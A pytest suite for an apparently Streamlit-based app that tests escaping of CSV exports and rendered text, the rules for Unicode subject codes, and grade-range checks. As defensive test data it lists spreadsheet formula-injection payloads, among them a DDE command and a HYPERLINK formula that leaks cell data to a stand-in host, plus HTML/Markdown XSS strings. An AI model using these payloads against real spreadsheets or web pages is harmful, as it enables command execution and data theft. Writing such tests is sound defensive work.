"""Inputs and outputs that an attacker or a careless paste controls: CSV formula injection, Markdown/HTML
injection into the pages and their figures, look-alike subject codes, absurd grades. Real service, real
database (SQLite, and PostgreSQL where it answers), the real app driven with AppTest; nothing mocked."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from datetime import UTC, date, datetime

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from db.errors import InvalidInput, PermissionDenied
from ui.text import plain
from vadcore.csv_safety import neutralise_cell, neutralise_frame, to_csv
from vadcore.settings import PROJECT_ROOT, SHIPPED_CHECKPOINT

from helpers import record_lawful_deployment

# The six classic formula payloads (OWASP): each would run in Excel, LibreOffice or Google Sheets.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
]
# Markdown and HTML that would fetch an outside URL, run a script or restyle the page if rendered.
MARKUP = ["![x](http://example.invalid/x.png)", "<img src=x onerror=alert(1)>", "**bold**"]


# ---------------------------------------------------------------- CSV formula injection


def test_formula_cells_get_a_leading_apostrophe_and_numbers_stay_numbers():
    for payload in FORMULAS:
        assert neutralise_cell(payload) == "'" + payload
    for harmless in ("S-01", "happy", "", "a=b", "1+1"):
        assert neutralise_cell(harmless) == harmless
    for number in (-1.5, 3, "-1.5", "+2", "-3e-2", float("nan"), None):
        assert neutralise_cell(number) is number or neutralise_cell(number) == number
    frame = pd.DataFrame({"code": FORMULAS, "valence": [-0.5] * len(FORMULAS)}, index=list(range(len(FORMULAS))))
    safe = neutralise_frame(frame)
    assert safe["valence"].dtype == float and (safe["valence"] == -0.5).all()
    assert list(safe["code"]) == ["'" + p for p in FORMULAS]
    assert list(frame["code"]) == FORMULAS  # the caller's frame is left as it was
    back = pd.read_csv(io.StringIO(to_csv(frame, index=False)), keep_default_na=False)
    assert list(back["code"]) == ["'" + p for p in FORMULAS] and back["valence"].dtype == float
    # a carriage return inside a cell is quoted: a spreadsheet would otherwise start a row at "=1+1"
    text = to_csv(pd.DataFrame({"note": ["a\r=1+1", "b\n@SUM(1)"]}), index=False)
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["note"], ["a\r=1+1"], ["b\n@SUM(1)"]]


def _formula_cells(text: str) -> list[str]:
    """Every cell of a CSV text that a spreadsheet would run as a formula (read back with the csv module)."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell)
    ]


def test_the_readings_export_neutralises_formula_subject_codes(service, admin, make_reading):
    group = service.create_group(admin, "Class 1", "class")
    # a tab- or CR-prefixed code is stored stripped ("=1+1"), so it is covered by the "=" payloads
    codes = [service.create_subject(admin, group.id, p, "granted").code for p in FORMULAS[:5]]
    meeting = service.create_session(admin, group.id, datetime(2025, 1, 6, 9, tzinfo=UTC), '=HYPERLINK("x")')
    subjects = service.list_subjects(admin, group.id)
    readings = [make_reading() for _ in subjects]
    service.save_capture(
        admin, meeting.id, readings, [s.id for s in subjects], hashlib.sha256(b"p").hexdigest(), "upload"
    )
    text = service.export_readings_csv(admin, group_id=group.id)
    assert _formula_cells(text) == []
    back = pd.read_csv(io.StringIO(text), keep_default_na=False)
    assert sorted(back["subject_code"]) == sorted("'" + c for c in codes)
    assert pd.api.types.is_float_dtype(back["valence"])  # numbers stay numbers


def test_every_csv_writer_goes_through_csv_safety():
    """Pages, the service and the scripts write CSV only through vadcore.csv_safety.to_csv: a new bare
    `.to_csv(` would write formula cells unescaped."""
    offenders = []
    for folder in ("pages", "ui", "db", "scripts"):
        for path in (PROJECT_ROOT / folder).rglob("*.py"):
            for n, line in enumerate(path.read_text().splitlines(), 1):
                if re.search(r"\.to_csv\(|csv\.writer\(|DictWriter\(", line) and "demo" not in path.name:
                    offenders.append(f"{path.relative_to(PROJECT_ROOT)}:{n}: {line.strip()}")
    assert offenders == []
    assert (
        "to_csv(frame.rename(columns=EXPORT_COLUMNS), index=False)"
        in (PROJECT_ROOT / "pages" / "explorer.py").read_text()
    )
    assert "to_csv(study.ranked" in (PROJECT_ROOT / "pages" / "outcomes.py").read_text()


# ---------------------------------------------------------------- subject codes


def test_subject_codes_are_normalised_bounded_and_free_of_invisible_characters(service, admin):
    from db.enums import SUBJECT_CODE_MAX_CHARS

    group = service.create_group(admin, "Class 1", "class")
    first = service.create_subject(admin, group.id, "  Café-01 \n")
    assert first.code == "Café-01"
    refused = {
        "S\u200b01": "invisible formatting",  # zero-width space
        "S\u200d01": "invisible formatting",  # zero-width joiner
        "S-\u202e10": "invisible formatting",  # right-to-left override: shows as "S-01"-like text reversed
        "S\x0001": "control",
        "S\u202801": "line separator",
        "S\ue00001": "private-use",
        "": "needs a code",
        "   ": "needs a code",
        "x" * (SUBJECT_CODE_MAX_CHARS + 1): f"at most {SUBJECT_CODE_MAX_CHARS}",
    }
    for code, why in refused.items():
        with pytest.raises(InvalidInput, match=why):
            service.create_subject(admin, group.id, code)
    service.create_subject(admin, group.id, "x" * SUBJECT_CODE_MAX_CHARS)  # the bound itself is fine
    # the same code in another Unicode form, another case or with compatibility characters is taken
    for same in ("Cafe\u0301-01", "CAFÉ-01", "café-01", "Ｃａｆé-01"):
        with pytest.raises(InvalidInput, match="taken"):
            service.create_subject(admin, group.id, same)
    codes = [s.code for s in service.list_subjects(admin, group.id)]
    assert codes.count("Café-01") == 1 and len(codes) == 2
    # NFKC: the full-width form is stored as the plain one
    other = service.create_group(admin, "Class 2", "class")
    assert service.create_subject(admin, other.id, "Ｓ－０１").code == "S-01"


# ---------------------------------------------------------------- grades


def test_a_grade_range_is_set_per_group_and_absurd_grades_never_reach_training(service, admin, make_reading):
    group = service.create_group(admin, "Class 1", "class")
    service.create_period(admin, "T1", date(2025, 1, 1), date(2025, 4, 1))
    subject = service.create_subject(admin, group.id, "S-01", "granted")
    meeting = service.create_session(admin, group.id, datetime(2025, 2, 3, 9, tzinfo=UTC))
    service.save_capture(
        admin,
        meeting.id,
        [make_reading()],
        [subject.id],
        hashlib.sha256(b"p").hexdigest(),
        "upload",
        captured_at=datetime(2025, 2, 3, 9, tzinfo=UTC),  # within T1, so that T1's features exist
    )

    # No range: a grade beyond ±10,000 (and inf, nan) is a problem of its line, and says why.
    report = service.import_outcomes(admin, group.id, "subject_code,period,grade\nS-01,T1,1e6\n")
    assert report.imported == 0
    assert report.problems.to_dict("records") == [
        {"line": 2, "column": "grade", "value": "1e6", "problem": report.problems["problem"].iloc[0]}
    ]
    assert "no grade range is set" in report.problems["problem"].iloc[0]
    for bad in ("inf", "-inf", "nan"):
        assert service.import_outcomes(admin, group.id, f"subject_code,period,grade\nS-01,T1,{bad}\n").imported == 0
    assert service.outcomes_frame(admin, group.id).empty
    assert service.training_data(admin, [group.id]).empty

    # The group's range: 1…6 (a Swiss scale); 7 is refused, 5.5 taken.
    teacher = service.create_user(admin, "teacher", "teacher-password-1", "teacher")
    service.grant_access(admin, teacher.id, group.id)
    with pytest.raises(PermissionDenied):
        service.set_grade_range(teacher, group.id, 1, 6)
    for lo, hi, why in ((6, 1, "below"), (1, None, "both"), (float("nan"), 6, "finite"), (1, float("inf"), "finite")):
        with pytest.raises(InvalidInput, match=why):
            service.set_grade_range(admin, group.id, lo, hi)
    info = service.set_grade_range(admin, group.id, 1, 6)
    assert (info.grade_min, info.grade_max) == (1.0, 6.0)
    assert next(g for g in service.list_groups(admin) if g.id == group.id).grade_max == 6.0
    report = service.import_outcomes(admin, group.id, "subject_code,period,grade\nS-01,T1,7\n")
    assert report.imported == 0 and report.problems["problem"].tolist() == ["grade outside 1…6"]
    assert service.import_outcomes(admin, group.id, "subject_code,period,grade\nS-01,T1,5.5\n").imported == 1
    assert service.training_data(admin, [group.id])["grade"].tolist() == [5.5]
    audit = service.audit_log(admin)
    assert "grade_min=None grade_max=None -> grade_min=1.0 grade_max=6.0" in audit["detail"].tolist()
    # cleared: back to the ±10,000 bound
    assert service.set_grade_range(admin, group.id, None, None).grade_min is None
    assert service.import_outcomes(admin, group.id, "subject_code,period,grade\nS-01,T1,1e6\n").imported == 0


# ---------------------------------------------------------------- Markdown / HTML injection


def test_plain_escapes_every_markdown_and_html_special():
    assert plain("**bold**") == r"\*\*bold\*\*"
    assert plain("![x](http://e.invalid/x.png)") == r"\!\[x\]\(http\:\/\/e\.invalid\/x\.png\)"
    assert plain("<img src=x onerror=alert(1)>") == r"\<img src\=x onerror\=alert\(1\)\>"
    assert plain(":red[alert] $x$ `c` # h\n- item") == r"\:red\[alert\] \$x\$ \`c\` \# h \- item"
    assert plain("S-01") == r"S\-01" and plain("Anna Müller") == "Anna Müller"
    for payload in MARKUP:
        assert payload not in plain(payload)
        # every special is escaped: unescaping gives the text back exactly
        assert re.sub(r"\\(.)", r"\1", plain(payload)) == payload


APP = str(PROJECT_ROOT / "main.py")
SHOWN_AS_TYPED = {  # what a careless or hostile user typed, and where
    "group": "Class <img src=x onerror=alert(1)> **bold**",
    "empty_group": "Empty ![x](http://example.invalid/x.png)",
    "code": "![x](http://example.invalid/x.png)",
    "display": "**bold** <img src=x onerror=alert(1)>",
    "note": "![x](http://example.invalid/x.png) <img src=x onerror=alert(1)>",
    "period": "**bold** term",
}


@pytest.fixture
def hostile_pilot(make_reading, app_service):
    svc = app_service
    admin = svc.create_first_admin("admin", "admin-password-1", SHOWN_AS_TYPED["display"])
    record_lawful_deployment(svc, admin)
    group = svc.create_group(admin, SHOWN_AS_TYPED["group"], "caseload")
    svc.create_group(admin, SHOWN_AS_TYPED["empty_group"], "class")
    subject = svc.create_subject(admin, group.id, SHOWN_AS_TYPED["code"], "granted")
    svc.create_period(admin, SHOWN_AS_TYPED["period"], date(2025, 1, 1), date(2025, 4, 1))
    meeting = svc.create_session(admin, group.id, datetime(2025, 2, 3, 9, tzinfo=UTC), SHOWN_AS_TYPED["note"])
    formula = svc.create_subject(admin, group.id, FORMULAS[4], "granted")
    svc.save_capture(
        admin, meeting.id, [make_reading(valence=-0.5), make_reading()], [subject.id, formula.id], "ab" * 32, "upload"
    )
    yield {"svc": svc, "admin": admin, "group": group, "subject": subject}


def _markdown_bodies(at: AppTest) -> list[str]:
    """The body of every element that Streamlit renders as Markdown, and every widget label (labels are
    Markdown too)."""
    bodies = []
    for kind in ("markdown", "caption", "info", "success", "warning", "error", "title", "header", "subheader", "toast"):
        bodies += [str(e.value) for e in at.get(kind)]
    bodies += [str(e.label) for e in at.get("metric")]
    for kind in (
        "button",
        "checkbox",
        "selectbox",
        "multiselect",
        "radio",
        "text_input",
        "text_area",
        "number_input",
        "date_input",
        "toggle",
        "slider",
        "select_slider",
        "download_button",
        "tabs",
        "expander",
    ):
        bodies += [str(getattr(e, "label", "")) for e in at.get(kind)]
    return bodies


def _plotly_strings(at: AppTest) -> list[str]:
    strings: list[str] = []

    def walk(x):
        if isinstance(x, str):
            strings.append(x)
        elif isinstance(x, dict):
            for v in x.values():
                walk(v)
        elif isinstance(x, list):
            for v in x:
                walk(v)

    for el in at.get("plotly_chart"):
        walk(json.loads(el.proto.spec))
    return strings


def _assert_shown_as_typed(at: AppTest, where: str) -> None:
    assert not at.exception, (where, at.exception)
    for body in _markdown_bodies(at):
        for payload in MARKUP:
            assert payload not in body, f"{where}: {payload!r} rendered as Markdown in {body!r}"
    for text in _plotly_strings(at):
        assert "<img" not in text, f"{where}: HTML in a plotly text: {text!r}"


def test_user_typed_names_codes_and_notes_are_never_rendered_as_markdown_or_html(hostile_pilot):
    at = AppTest.from_file(APP, default_timeout=600).run()
    at.text_input(key="login_username").input("admin")
    at.text_input(key="login_password").input("admin-password-1")
    at.button(key="FormSubmitter:login-Log in").click().run()
    assert at.session_state["user"].username == "admin"
    # the sidebar names the user: escaped, and the name is still all there
    sidebar = " ".join(str(e.value) for e in at.sidebar.caption)
    assert plain(SHOWN_AS_TYPED["display"]) in sidebar
    _assert_shown_as_typed(at, "start")

    at.switch_page("pages/account.py").run()
    _assert_shown_as_typed(at, "account")

    at.switch_page("pages/subjects.py").run()
    _assert_shown_as_typed(at, "subjects")
    # a refusal that quotes the group's name and the code: escaped too
    at.text_input(key="new_subject_code").input(SHOWN_AS_TYPED["code"])
    at.button(key="FormSubmitter:add_subject-Add subject").click().run()
    assert any("taken" in str(e.value) for e in at.error)
    _assert_shown_as_typed(at, "subjects, duplicate code")
    # the group without subjects says so, with its name escaped
    picker = at.selectbox(key="subjects_group")
    picker.select(next(o for o in picker.options if o.startswith("Empty"))).run()
    assert any(plain(SHOWN_AS_TYPED["empty_group"]) in str(e.value) for e in at.info)
    _assert_shown_as_typed(at, "subjects, empty group")

    at.switch_page("pages/explorer.py").run()
    strings = _plotly_strings(at)
    assert any("&lt;img" in s or "![x](http://example.invalid/x.png)" in s for s in strings)
    _assert_shown_as_typed(at, "explorer")

    at.switch_page("pages/timelines.py").run()
    strings = _plotly_strings(at)
    assert any("&lt;img src=x onerror=alert(1)&gt;" in s for s in strings), "the note is in the hover, escaped"
    _assert_shown_as_typed(at, "timelines")

    at.switch_page("pages/outcomes.py").run()
    _assert_shown_as_typed(at, "outcomes")

    if SHIPPED_CHECKPOINT.exists():  # the Analyse page names the model it loads
        at.switch_page("pages/analyse.py").run()
        # the pilot's session is not today's, so the page offers a new one: pick the stored session
        picker = next(s for s in at.selectbox if s.label == "Session")
        picker.select(picker.options[-1]).run()
        assert any(plain(SHOWN_AS_TYPED["group"]) in str(e.value) for e in at.caption)
        _assert_shown_as_typed(at, "analyse")
        # a file name is typed by someone too: the refusal names it, escaped
        name = "<img src=x onerror=alert(1)>![x](http://example.invalid/x.png).jpg"
        at.file_uploader(key="uploads_0").set_value((name, b"not a photo at all", "image/jpeg")).run()
        assert any(plain(name) in str(e.value) for e in at.error), [e.value for e in at.error]
        _assert_shown_as_typed(at, "analyse, a file that is not a photo")

    at.switch_page("pages/admin.py").run()
    _assert_shown_as_typed(at, "admin")


def test_the_explorer_and_admin_downloads_neutralise_formula_codes(hostile_pilot, downloads):
    at = AppTest.from_file(APP, default_timeout=600).run()
    at.text_input(key="login_username").input("admin")
    at.text_input(key="login_password").input("admin-password-1")
    at.button(key="FormSubmitter:login-Log in").click().run()
    at.switch_page("pages/explorer.py").run()
    assert not at.exception, at.exception
    explorer = downloads.pop("vadlens_readings.csv").decode()
    at.switch_page("pages/admin.py").run()
    at.button(key="prepare_export").click().run()
    assert not at.exception, at.exception
    admin = downloads.pop("vadlens_readings.csv").decode()
    for text in (explorer, admin):
        assert _formula_cells(text) == []
        back = pd.read_csv(io.StringIO(text), keep_default_na=False)
        assert "'" + FORMULAS[4] in set(back["subject_code"])
        assert pd.api.types.is_float_dtype(back["valence"])
        assert "dominance_experimental" in back and "dominance" not in back  # the header says it is experimental


def test_the_admin_sets_and_clears_a_groups_grade_range(hostile_pilot):
    svc, admin, group = hostile_pilot["svc"], hostile_pilot["admin"], hostile_pilot["group"]
    at = AppTest.from_file(APP, default_timeout=600).run()
    at.text_input(key="login_username").input("admin")
    at.text_input(key="login_password").input("admin-password-1")
    at.button(key="FormSubmitter:login-Log in").click().run()
    at.switch_page("pages/admin.py").run()
    assert at.selectbox(key="policy_group").value == group.id
    at.number_input(key=f"grade_min_{group.id}").set_value(1.0)
    at.number_input(key=f"grade_max_{group.id}").set_value(6.0)
    at.checkbox(key=f"grade_clear_{group.id}").uncheck()
    at.button(key="FormSubmitter:grade_range-Save grade range").click().run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    stored = next(g for g in svc.list_groups(admin) if g.id == group.id)
    assert (stored.grade_min, stored.grade_max) == (1.0, 6.0)
    # the wrong way round is refused with a plain message, and nothing changes
    at.number_input(key=f"grade_min_{group.id}").set_value(7.0)
    at.button(key="FormSubmitter:grade_range-Save grade range").click().run()
    assert any("below the highest" in str(e.value) for e in at.error)
    assert next(g for g in svc.list_groups(admin) if g.id == group.id).grade_min == 1.0
    at.checkbox(key=f"grade_clear_{group.id}").check()
    at.button(key="FormSubmitter:grade_range-Save grade range").click().run()
    assert next(g for g in svc.list_groups(admin) if g.id == group.id).grade_min is None
